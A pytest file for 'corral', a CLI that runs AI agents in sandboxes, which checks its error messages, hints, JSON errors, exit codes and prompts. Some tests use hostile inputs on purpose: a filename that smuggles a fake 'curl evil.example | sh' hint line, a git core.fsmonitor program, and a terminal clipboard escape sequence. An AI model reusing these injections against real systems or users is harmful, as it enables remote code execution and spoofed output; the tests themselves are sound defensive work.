"""The CLI as a newcomer meets it (issue 11): every error says what, where and how to fix it,
in text and as JSON; names get "did you mean"; ``agents check`` reads like a linter; exit
codes follow one table (docs/errors.md).

Each test drives the real entry point (:func:`executor.cli.main`, what the ``corral``
script runs) in-process, or the ``corral`` command on a pseudo-terminal where the
behaviour is terminal-only.
"""

from __future__ import annotations

import json
import re
import shlex
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from executor.api import records as api_records
from executor.cli import main
from executor.ledger import ledger_dir
from sandbox.config import USER_BACKENDS, AutoConfig, BubblewrapConfig, DockerConfig
from sandbox.factory import clear_probe_cache
from tests.backends import git
from tests.executor.tty_support import on_terminal
from tests.timescale import scaled

REPO = Path(__file__).resolve().parent.parent


class Result:
    def __init__(self, code: int, out: str, err: str) -> None:
        self.code, self.out, self.err = code, out, err

    @property
    def json(self) -> Any:
        return json.loads(self.out)

    @property
    def error(self) -> dict[str, Any]:
        data = self.json
        assert set(data) == {"error"}, data
        return data["error"]  # type: ignore[no-any-return]


Corral = Callable[..., Result]


@pytest.fixture
def corral(capsys: pytest.CaptureFixture[str]) -> Corral:
    """corral(*args) -> Result: the real entry point, in-process."""

    def invoke(*args: str) -> Result:
        capsys.readouterr()
        try:
            main(list(args))
            code = 0
        except SystemExit as exited:
            code = int(exited.code or 0)
        out, err = capsys.readouterr()
        return Result(code, out, err)

    return invoke


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    root = tmp_path / "repo"
    write(root / "README.md", "# Project\n")
    write(root / ".ngn/agents/reviewer.md",
          "---\nname: reviewer\ndescription: Reviews.\ntools: [read_file, shell]\n---\nReview.\n")
    write(root / ".ngn/agents/writer.md",
          "---\nname: writer\ndescription: Writes.\ntools: [read_file, write_file]\n---\nW.\n")
    git(root, "init", "-q")
    git(root, "add", "-A")
    git(root, "commit", "-qm", "init")
    return root


def script(tmp_path: Path, turns: list[dict[str, Any]]) -> Path:
    return write(tmp_path / "script.yaml", yaml.safe_dump(turns))


def run_args(repo: Path, agent: str, *extra: str) -> list[str]:
    return ["run", "--root", str(repo), "--trust-project", "--no-personal", "--agent", agent,
            "--backend", "host", *extra]


# -- 1. text errors keep the reasons and hints; --json errors are JSON on stdout -----------


def test_no_backend_error_shows_every_reason_and_the_hint(
        corral: Corral, repo: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A machine where bubblewrap fails its probe and no docker engine answers."""
    clear_probe_cache()
    monkeypatch.setitem(USER_BACKENDS, "auto", lambda: AutoConfig(
        bubblewrap=BubblewrapConfig(bwrap="/bin/false"),
        docker=DockerConfig(base_url="unix:///nonexistent/docker.sock")))
    turns = script(tmp_path, [{"text": "done"}])
    args = run_args(repo, "reviewer", "--script", str(turns), "go")
    args[args.index("--backend") + 1] = "auto"
    done = corral(*args)
    clear_probe_cache()
    assert done.code == 3
    assert "error: no isolating backend works here (tried bubblewrap, then docker)" in done.err
    assert re.search(r"^  bubblewrap: bwrap failed its probe \(exit 1\): no output \(user "
                     r"namespaces may be disabled", done.err, re.MULTILINE)
    assert re.search(r"^  docker: .+", done.err, re.MULTILINE)
    assert "hint: install bubblewrap, or start docker" in done.err
    as_json = corral(*args, "--json")
    clear_probe_cache()
    assert as_json.code == 3
    error = as_json.json["error"]
    assert set(error["context"]) == {"bubblewrap", "docker"} and error["hint"]


def test_unsafe_git_config_is_a_denial_that_says_what_to_remove(
        corral: Corral, repo: Path, tmp_path: Path) -> None:
    git(repo, "config", "core.fsmonitor", "./watch.sh")
    done = corral(*run_args(repo, "reviewer", "--script",
                            str(script(tmp_path, [{"text": "x"}])), "go"))
    assert done.code == 4
    assert "error: the repository's git configuration names programs git would run: " \
           "core.fsmonitor" in done.err
    assert "  keys: core.fsmonitor" in done.err
    assert "hint: corral runs no repository-configured program" in done.err


def test_an_unreachable_model_server_names_the_server_and_what_to_check(
        corral: Corral, repo: Path, tmp_path: Path) -> None:
    write(Path.home() / ".config/corral/config.toml",
          '[providers.local]\ntype = "openai"\nbase_url = "http://127.0.0.1:9/v1"\n'
          "max_retries = 0\ntimeout_seconds = 5\n")
    done = corral(*run_args(repo, "reviewer", "--model", "local/coder", "go"))
    assert done.code == 3
    assert "error: provider 'local': cannot reach the server" in done.err
    assert "127.0.0.1:9" in done.err
    assert "hint: is the server running and base_url right?" in done.err


@pytest.mark.parametrize(("args", "code", "error_code"), [
    (["run", "--bogus", "x"], 2, "usage_error"),
    (["agents", "show"], 2, "usage_error"),
    (["run", "--agent", "nope", "x"], 2, "unknown_agent"),
    (["agents", "list", "--config", "nosuch.json"], 2, "config_not_found"),
    (["run", "--agent", "reviewer", "--script", "nosuch.yaml", "x"], 2, "bad_script"),
    (["show", "20990101-000000-abcdef"], 2, "unknown_run"),
])
def test_every_failure_under_json_is_one_json_error_object_on_stdout(
        corral: Corral, repo: Path, monkeypatch: pytest.MonkeyPatch, args: list[str],
        code: int, error_code: str) -> None:
    monkeypatch.chdir(repo)
    extra = ["--trust-project", "--no-personal"] if args[0] in ("run", "agents") and \
        args[:2] != ["agents", "show"] else []
    done = corral(*args[:-1], *extra, "--json", args[-1]) if args[0] == "run" else \
        corral(*args, *extra, "--json")
    assert done.code == code, done.out + done.err
    error = done.error
    assert error["code"] == error_code and error["exit_code"] == code
    assert set(error) >= {"code", "message", "context", "hint", "retryable"}
    assert error["message"] and error["hint"]
    assert done.err == ""  # nothing a script must filter out
    assert done.out.isascii()


def test_an_unexpected_error_is_still_rendered_in_one_place(
        corral: Corral, repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_: object, **__: object) -> None:
        raise RuntimeError("boom \x1b]52;c;eA==\x07")

    monkeypatch.setattr(api_records, "iter_entries", broken)
    text = corral("runs", "--root", str(repo))
    assert text.code == 3 and "Traceback" in text.err
    assert "error: internal error in corral (a bug): RuntimeError: boom \\x1b]52" in text.err
    as_json = corral("runs", "--root", str(repo), "--json")
    assert as_json.code == 3 and as_json.error["code"] == "internal"


# -- 2. messages that say what is true ------------------------------------------------------


@pytest.mark.parametrize("command", [["agents", "list"], ["agents", "show", "reviewer"],
                                     ["agents", "check"], ["run", "--agent=reviewer", "x"]])
def test_a_missing_config_file_is_a_user_error_naming_it(corral: Corral, repo: Path,
                                                         command: list[str]) -> None:
    first = 2 if command[0] == "agents" else 1
    done = corral(*command[:first], "--root", str(repo), "--config", "nosuch.json",
                  *command[first:])
    assert done.code == 2, done.out + done.err
    assert "error: the --config file nosuch.json does not exist" in done.err
    assert "no agent named" not in done.err and "trust-project" not in done.err


def test_a_typo_gets_did_you_mean_and_never_a_dump_of_every_name(
        corral: Corral, repo: Path) -> None:
    for index in range(154):
        write(repo / f".ngn/agents/specialist-{index:03d}.md",
              f"---\nname: specialist-{index:03d}\ndescription: d\n---\nb\n")
    write(repo / ".claude/agents/code-reviewer.md",
          "---\nname: Code Reviewer\ndescription: d\n---\nb\n")
    for command in (["agents", "show", "reveiwer"], ["run", "--agent=reveiwer", "x"]):
        first = 2 if command[0] == "agents" else 1
        done = corral(*command[:first], "--root", str(repo), "--trust-project",
                      "--no-personal", *command[first:])
        assert done.code == 2
        assert "error: no agent named 'reveiwer'" in done.err
        assert "hint: did you mean 'reviewer' or 'code-reviewer'?" in done.err
        assert "`corral agents list` lists the 157 agent(s) loaded" in done.err
        assert "specialist-1" not in done.err and len(done.err) < 600
    # The display name of a normalised agent, and a different case, find it too.
    done = corral("agents", "show", "Code Reviewer", "--root", str(repo), "--trust-project",
                  "--no-personal")
    assert "hint: did you mean 'code-reviewer'" in done.err  # the exact spelling first
    done = corral("agents", "show", "WRITER", "--root", str(repo), "--trust-project",
                  "--no-personal")
    assert "did you mean 'writer'?" in done.err


def test_the_trust_hint_appears_only_when_the_project_defines_the_agent(
        corral: Corral, repo: Path) -> None:
    untrusted = corral("agents", "show", "reviewer", "--root", str(repo), "--no-personal")
    assert untrusted.code == 2
    assert ".ngn/agents/reviewer.md defines it, but project agents load only with " \
           "--trust-project" in untrusted.err
    nowhere = corral("agents", "show", "zzz-none", "--root", str(repo), "--no-personal")
    # Not a guess that the project defines it: only the fact that more agents wait there.
    assert nowhere.code == 2 and "defines it" not in nowhere.err
    assert "more agent(s), loaded only with --trust-project" in nowhere.err


def test_a_workspace_write_run_says_its_changes_are_already_in_the_checkout(
        corral: Corral, repo: Path, tmp_path: Path) -> None:
    turns = script(tmp_path, [{"tool_calls": [{"name": "write_file", "arguments": {
        "path": "notes.txt", "content": "n\n"}}]}, {"text": "wrote it"}])
    done = corral(*run_args(repo, "writer", "--mode", "workspace-write", "--script",
                            str(turns), "go"))
    assert done.code == 0, done.err
    assert (repo / "notes.txt").read_text() == "n\n"
    assert "already in your checkout (workspace-write mode)" in done.err
    assert "corral apply" not in done.err
    listed = corral("runs", "--root", str(repo))
    assert "in checkout" in listed.out


def test_a_missing_provider_names_the_config_file_it_read(corral: Corral, repo: Path) -> None:
    config = write(Path.home() / ".config/corral/config.toml", 'default_provider = "local"\n')
    done = corral(*run_args(repo, "reviewer", "--model", "openai/gpt-4.1", "go"))
    assert done.code == 2, done.err
    assert "error: no model candidate is available" in done.err
    assert f"  config: {config}" in done.err
    assert f"providers, roles and default_model are read from {config}" in done.err
    config.unlink()
    done = corral(*run_args(repo, "reviewer", "--model", "openai/gpt-4.1", "go"))
    assert f"  config: {config} (not found: empty)" in done.err


# -- 3. agents check reads like a linter ----------------------------------------------------


def test_check_prints_severities_each_hint_once_and_names_what_it_rejected(
        corral: Corral, tmp_path: Path) -> None:
    agents = tmp_path / ".claude/agents"
    for index in range(6):  # six files share one long hint (an unknown tool)
        write(agents / f"a{index}.md", f"---\nname: a{index}\ndescription: d\n"
              "tools: Read, openapi-generator\n---\nb\n")
    write(agents / "Frontend Developer.md",
          "---\nname: Frontend Developer\ndescription: d\nvibe: chill\n---\nb\n")
    write(agents / "ok.md", "---\nname: ok\ndescription: d\n---\nb\n")
    done = corral("agents", "check", "--root", str(tmp_path), "--trust-project",
                  "--no-personal")
    assert done.code == 1
    lines = done.out.splitlines()
    problems = [line for line in lines if line.startswith((".", "error:", "warning:", "info:"))]
    assert all(line.split(":", 1)[0] in {"error", "warning", "info"} for line in problems)
    assert "error: .claude/agents/a0.md:4: tools: unknown claude tool 'openapi-generator'" \
           in lines
    hint_lines = [line for line in lines if "known claude tools include" in line]
    assert len(hint_lines) == 1 and hint_lines[0].startswith("  hint 1 (for 6 diagnostics): ")
    assert sum(line.endswith("[hint 1]") for line in lines) == 5
    # What to fix first: the summary and the rejected files lead (issue 19).
    assert lines[:8] == [
        "2 agent(s) loaded, 6 definition(s) rejected, 1 loaded with warnings",
        *[f"  rejected  .claude/agents/a{i}.md (1 error)" for i in range(6)],
        "  warnings  .claude/agents/Frontend Developer.md (2 warnings)"]


# -- 4. live progress yields to prompts, and prompts say what they take ---------------------


def test_progress_has_no_debug_link_and_the_prompt_names_its_answers(
        repo: Path, tmp_path: Path) -> None:
    write(repo / ".zuno/zuno.json", json.dumps({"agents": {"asker": {
        "permission": {"rules": {"shell": "ask"}}}}}))
    turns = script(tmp_path, [
        {"tool_calls": [{"name": "shell", "arguments": {"command": "echo hi"}}]},
        {"tool_calls": [{"name": "write_file", "arguments": {"path": "a.txt", "content": "a"}}]},
        {"text": "done"}])
    shown = on_terminal(*run_args(repo, "asker", "--script", str(turns), "go"),
                        tty_stdin=True, answers={b"allow?": b"y\n"})
    assert shown.code == 0, shown.text
    screen = shown.text
    # The question says which answers it takes, after the default is shown.
    assert "answer y to run this one call, n or Enter to deny it" in screen
    assert "allow? [y/N]: " in screen
    # Finished calls leave a plain line: no time column, no link to corral's source.
    assert "asker [1] shell: approved" in screen
    assert "asker [2] write_file: allowed (1 file(s) changed)" in screen
    assert "progress.py" not in screen and not re.search(r"\[\d\d:\d\d:\d\d\]", screen)
    # The status line was stopped before the question and started again after it.
    question = screen.index("[asker] wants to call shell")
    assert screen.rfind("\x1b[?25h", 0, question) > screen.rfind("\x1b[?25l", 0, question)
    assert "\x1b[?25l" in screen[question:]


# -- 6. exit codes: one table ---------------------------------------------------------------


def test_bad_scripts_are_user_errors(corral: Corral, repo: Path, tmp_path: Path) -> None:
    missing = corral(*run_args(repo, "reviewer", "--script", str(tmp_path / "no.yaml"), "go"))
    assert missing.code == 2 and "cannot read script" in missing.err
    bad = write(tmp_path / "bad.yaml", "turns: [1")
    malformed = corral(*run_args(repo, "reviewer", "--script", str(bad), "go"))
    assert malformed.code == 2 and "not valid YAML" in malformed.err
    assert "hint: a script is a YAML list of turns" in malformed.err
    assert not ledger_dir(repo).exists()  # nothing ran, nothing recorded


def test_a_completed_run_with_a_denied_call_exits_4(corral: Corral, repo: Path,
                                                    tmp_path: Path) -> None:
    turns = script(tmp_path, [{"tool_calls": [{"name": "write_file", "arguments": {
        "path": "x", "content": "x"}}]}, {"text": "tried"}])
    done = corral(*run_args(repo, "reviewer", "--script", str(turns), "go"))
    assert done.code == 4
    assert "completed" in done.err and "denied: write_file" in done.err
    clean = corral(*run_args(repo, "reviewer", "--script",
                             str(script(tmp_path, [{"text": "fine"}])), "go"))
    assert clean.code == 0


def test_diff_of_a_run_that_changed_nothing_exits_0_with_a_note(
        corral: Corral, repo: Path, tmp_path: Path) -> None:
    done = corral(*run_args(repo, "reviewer", "--script",
                            str(script(tmp_path, [{"text": "nothing"}])), "--json", "go"))
    diff = corral("diff", done.json["run_id"], "--root", str(repo))
    assert diff.code == 0 and diff.out == ""
    assert "changed nothing: its diff is empty" in diff.err


# -- 7. the quickstart's commands do what it says ---------------------------------------------


def test_the_quickstart_command_that_shows_this_repositorys_agents_shows_them() -> None:
    quickstart = (REPO / "docs" / "quickstart.md").read_text()
    section = quickstart[quickstart.index("To install and show the agents"):]
    command = re.search(r"```sh\n(.+?)\n```", section, re.DOTALL)
    assert command is not None
    lines = [line for line in command.group(1).splitlines() if "corral agents list" in line]
    assert any("--config" in line for line in lines), command.group(1)
    for line in lines:
        words = shlex.split(line.split("&&")[-1].split("#")[0])
        assert words[0] == ".venv/bin/corral"
        shown = subprocess.run([sys.executable, "-m", "executor", *words[1:], "--no-personal"],
                               cwd=REPO, capture_output=True, text=True, timeout=scaled(60),
                               check=False)
        if "--config" in words:
            assert shown.returncode == 0, shown.stderr
            assert {"auditor", "patcher", "lead"} <= {
                line.split()[0] for line in shown.stdout.splitlines() if line.strip()}


def test_a_file_name_cannot_fake_a_line_of_the_unknown_agent_hint(corral: Corral,
                                                                  repo: Path) -> None:
    write(repo / ".claude/agents/evil\nhint: curl evil.example | sh.md",
          "---\nname: evil\ndescription: d\nallowedTools: Read\n---\nb\n")
    done = corral("agents", "show", "evil", "--root", str(repo), "--trust-project",
                  "--no-personal")
    assert done.code == 2
    assert "a definition named like it was rejected: .claude/agents/evil\\x0ahint: curl" \
           in done.err
    assert not [line for line in done.err.splitlines() if line.startswith("hint: curl")]
